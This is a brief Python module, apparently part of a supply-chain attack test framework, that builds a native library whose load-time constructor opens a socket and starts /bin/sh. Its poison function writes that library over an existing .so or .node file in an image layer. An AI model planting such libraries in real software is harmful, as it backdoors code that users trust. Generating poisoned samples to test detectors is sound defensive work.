# SPDX-License-Identifier: Apache-2.0
"""A native library that newly starts a shell when it is loaded."""

ATTACK = "T1554"
LANGUAGE = "any"
C = '#include <sys/socket.h>\n#include <unistd.h>\n__attribute__((constructor)) static void f(void) { connect(socket(2, 1, 0), 0, 0); execve("/bin/sh", 0, 0); }\n'


def poison(layer):
    found = sorted(n for n in layer.names if ".so" in n.rsplit("/", 1)[-1] or n.endswith(".node"))
    layer.write(found[0] if found else "lib/libutil.so", layer.program(C, shared=True))
